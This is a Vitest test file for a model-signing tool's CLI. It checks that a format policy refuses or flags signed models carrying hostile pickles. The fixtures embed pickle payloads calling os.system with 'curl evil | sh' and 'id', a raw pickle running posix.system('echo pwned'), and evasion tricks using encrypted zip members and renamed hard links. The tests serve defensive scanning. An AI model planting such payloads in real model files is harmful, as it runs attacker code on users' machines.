/**
 * The policy's `formats` section, end to end: a signed model is verified through a policy file
 * that scans or denies formats. The signature is valid; the content is what gets it refused.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, writeFile } from 'node:fs/promises';
import { create as tarCreate } from 'tar';
import path from 'node:path';
import { cleanupTmp, keypair, runCli, tmpDir } from '../helpers/cli.js';
import { makeTar, type TarEntry } from '../helpers/tar.js';
import { benignOrderedDict, makeZip, osSystemProtocol4, torchZip, validSafetensors } from '../helpers/scan-fixtures.js';

afterAll(cleanupTmp);

describe('verify --policy with formats', () => {
  let dir: string;
  let keys: { key: string; pub: string };

  async function signed(name: string, files: Record<string, Buffer>): Promise<string> {
    const m = path.join(dir, name);
    await mkdir(m, { recursive: true });
    for (const [f, b] of Object.entries(files)) await writeFile(path.join(m, f), b);
    const r = await runCli(['sign', m, '--key', keys.key, '--version', '1.0.0', '--license', 'apache-2.0']);
    expect(r.code, r.stderr).toBe(0);
    return m;
  }
  async function policy(name: string, formats: string): Promise<string> {
    const p = path.join(dir, name);
    await writeFile(p, `apiVersion: modelsign/v1\ntrust:\n  keys: [${keys.pub}]\nlicense:\n  deploy: { allow: [apache-2.0] }\nformats: ${formats}\n`);
    return p;
  }

  beforeAll(async () => {
    dir = await tmpDir();
    keys = await keypair(dir);
  });

  it('scan: true blocks a signed model with a hostile pickle (exit 1, names the import)', async () => {
    const m = await signed('hostile', { 'pytorch_model.bin': torchZip(osSystemProtocol4('curl evil | sh')), 'config.json': Buffer.from('{}') });
    const p = await policy('scan.yaml', '{ scan: true }');
    const r = await runCli(['verify', m, '--policy', p, '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.stdout);
    expect(j.verified).toBe(false);
    const f = j.failures.find((x: { code: string }) => x.code === 'SCAN_FINDING');
    expect(f.path).toBe('pytorch_model.bin');
    expect(f.message).toMatch(/os\.system|posix\.system/);
    // Without the policy the same model verifies: the signature itself is valid.
    expect((await runCli(['verify', m, '--key', keys.pub])).code).toBe(0);
  });

  it('scan: true passes a clean model (safetensors and a benign pickle)', async () => {
    const m = await signed('clean', { 'model.safetensors': validSafetensors(), 'extra.pkl': benignOrderedDict() });
    const p = await policy('scan-clean.yaml', '{ scan: true }');
    const r = await runCli(['verify', m, '--policy', p]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });

  it('deny: [pickle] refuses a clean pickle-bearing model', async () => {
    const m = await signed('pickled', { 'model.safetensors': validSafetensors(), 'extra.pkl': benignOrderedDict() });
    const p = await policy('deny.yaml', '{ deny: [pickle] }');
    const r = await runCli(['verify', m, '--policy', p]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('[FORMAT_DENIED]');
    expect(r.stdout).toContain('extra.pkl');
  });

  it('a signed .tar.gz archive is scanned entry by entry: scan and deny apply as to its directory', async () => {
    const m = await signed('hostile-arc', { 'pytorch_model.bin': torchZip(osSystemProtocol4('id')), 'extra.pkl': benignOrderedDict() });
    const tgz = path.join(dir, 'hostile-arc.tgz');
    await tarCreate({ gzip: true, file: tgz, cwd: m, portable: true }, ['.']);
    const sig = path.join(m, 'model.sig');
    expect((await runCli(['verify', tgz, '--key', keys.pub, '--signature', sig])).code).toBe(0);
    const scan = await runCli(['verify', tgz, '--signature', sig, '--policy', await policy('scan-arc.yaml', '{ scan: true }'), '--json']);
    expect(scan.code).toBe(1);
    const j = JSON.parse(scan.stdout);
    expect(j.failures.find((x: { code: string }) => x.code === 'SCAN_FINDING')?.path).toBe('pytorch_model.bin');
    const deny = await runCli(['verify', tgz, '--signature', sig, '--policy', await policy('deny-arc.yaml', '{ deny: [pickle] }')]);
    expect(deny.code).toBe(1);
    expect(deny.stdout).toMatch(/FORMAT_DENIED extra\.pkl/);
  });

  it('deny: [pickle] on an archive whose zip member could not be looked at fails closed', async () => {
    const m = await signed('torch-arc', { 'pytorch_model.bin': torchZip(benignOrderedDict()) });
    const tgz = path.join(dir, 'torch-arc.tgz');
    await tarCreate({ gzip: true, file: tgz, cwd: m, portable: true }, ['.']);
    const p = await policy('deny-arc2.yaml', '{ deny: [pickle] }');
    const args = ['verify', tgz, '--signature', path.join(m, 'model.sig'), '--policy', p];
    const denied = await runCli(args);
    expect(denied.code).toBe(1);
    expect(denied.stderr).toContain('policy denies pickle (inside pytorch) files [FORMAT_DENIED]');
    // No writable temp dir: the member cannot be opened, so its format is unknown - refused, not passed.
    const blind = await runCli(args, { env: { TMPDIR: path.join(dir, 'no-such-tmp') } });
    expect(blind.code).toBe(1);
    expect(blind.stderr).toMatch(/pytorch_model\.bin: cannot tell whether this is a denied format: .*not scanned \[FORMAT_UNCHECKED\]/);
  });

  it('deny: [pickle] refuses a PyTorch checkpoint whose data.pkl could not be read (encrypted member)', async () => {
    const name = 'archive/data.pkl';
    const z = makeZip([{ name, data: osSystemProtocol4('id') }]);
    z.writeUInt16LE(z.readUInt16LE(6) | 1, 6); // local header: encrypted
    const central = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    z.writeUInt16LE(z.readUInt16LE(central + 8) | 1, central + 8); // central header: encrypted
    const m = await signed('enc-torch', { 'pytorch_model.bin': z });
    const r = await runCli(['verify', m, '--policy', await policy('deny-enc.yaml', '{ deny: [pickle] }')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('pytorch_model.bin: policy denies pickle (inside pytorch) files [FORMAT_DENIED]');
  });

  it('a .tar signed directly (sign ARCHIVE) is scanned inside too', async () => {
    const m = await signed('opaque-src', { 'model.pkl': osSystemProtocol4('id') });
    const t = path.join(dir, 'opaque.tar');
    await tarCreate({ file: t, cwd: m, portable: true }, ['model.pkl']);
    const signedTar = await runCli(['sign', t, '--key', keys.key, '--version', '1.0.0', '--license', 'apache-2.0']);
    expect(signedTar.code, signedTar.stderr).toBe(0);
    const r = await runCli(['verify', t, '--policy', await policy('scan-opaque.yaml', '{ scan: true }')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/model\.pkl: .*os\.system|posix\.system/);
  });

  /** An archive of ENTRIES, signed directly (sign ARCHIVE). */
  async function signedTar(name: string, entries: TarEntry[], extra: string[] = []): Promise<string> {
    const t = path.join(dir, name);
    await writeFile(t, makeTar(entries));
    const r = await runCli(['sign', t, '--key', keys.key, '--version', '1.0.0', '--license', 'apache-2.0', ...extra]);
    expect(r.code, r.stderr).toBe(0);
    return t;
  }
  // Protocol 0 with no magic number: by its bytes it could be text, so its name decides how it is read.
  const quietPickle = "S'x'\n0cposix\nsystem\n(S'echo pwned'\ntR.";

  it('a hard link entry is judged under its own name: a pickle stored as text and linked as pytorch_model.bin is refused', async () => {
    const t = await signedTar('link-rename.tar', [
      { name: 'notes.txt', data: quietPickle },
      { name: 'pytorch_model.bin', type: '1', linkname: 'notes.txt' },
    ]);
    const deny = await runCli(['verify', t, '--policy', await policy('deny-link.yaml', '{ deny: [pickle] }'), '--json']);
    expect(deny.code).toBe(1);
    expect(JSON.parse(deny.stdout).failures).toContainEqual(expect.objectContaining({ code: 'FORMAT_UNCHECKED', path: 'pytorch_model.bin' }));
    const scan = await runCli(['verify', t, '--policy', await policy('scan-link.yaml', '{ scan: true }')]);
    expect(scan.code).toBe(1);
    expect(scan.stderr).toMatch(/pytorch_model\.bin: high: link to "notes\.txt".*not scanned \[SCAN_SKIPPED\] \[SCAN_FINDING\]/);
    const direct = await runCli(['scan', t, '--json']);
    expect(direct.code).toBe(1);
    expect(JSON.parse(direct.stdout).files.map((f: { file: string }) => f.file)).toContain('link-rename.tar:pytorch_model.bin');
  });

  it('a link whose name reads its target alike carries the target\'s findings under its own name', async () => {
    const t = await signedTar('link-same.tar', [
      { name: 'a.pkl', data: osSystemProtocol4('id') },
      { name: 'b.pkl', type: '1', linkname: 'a.pkl' },
      { name: 'c.pkl', type: '2', linkname: 'a.pkl' },
    ], ['--allow-symlinks']);
    const r = await runCli(['verify', t, '--policy', await policy('scan-same.yaml', '{ scan: true }'), '--json']);
    expect(r.code).toBe(1);
    const paths = JSON.parse(r.stdout).failures.filter((f: { code: string }) => f.code === 'SCAN_FINDING').map((f: { path: string }) => f.path);
    expect(new Set(paths)).toEqual(new Set(['a.pkl', 'b.pkl', 'c.pkl']));
    const deny = await runCli(['verify', t, '--policy', await policy('deny-same.yaml', '{ deny: [pickle] }'), '--json']);
    const denied = JSON.parse(deny.stdout).failures.filter((f: { code: string }) => f.code === 'FORMAT_DENIED').map((f: { path: string }) => f.path);
    expect(new Set(denied)).toEqual(new Set(['a.pkl', 'b.pkl', 'c.pkl']));
  });

  it('an archive read again without its top folder reports only the entries of the second read', async () => {
    const t = await signedTar('regroup.tar', [
      { name: 'top/a.pkl', data: benignOrderedDict() },
      { name: 'other.txt', data: 'x' },
    ]);
    const r = await runCli(['verify', t, '--policy', await policy('deny-regroup.yaml', '{ deny: [pickle] }'), '--json']);
    expect(r.code).toBe(1);
    const denied = JSON.parse(r.stdout).failures.filter((f: { code: string }) => f.code === 'FORMAT_DENIED').map((f: { path: string }) => f.path);
    expect(denied).toEqual(['top/a.pkl']);
  });

  it('an unknown format name in the policy is a usage error naming the field', async () => {
    const p = await policy('bad.yaml', '{ deny: [pikle] }');
    const r = await runCli(['policy', 'check', p]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('formats.deny[0]: unknown format "pikle"');
  });
});
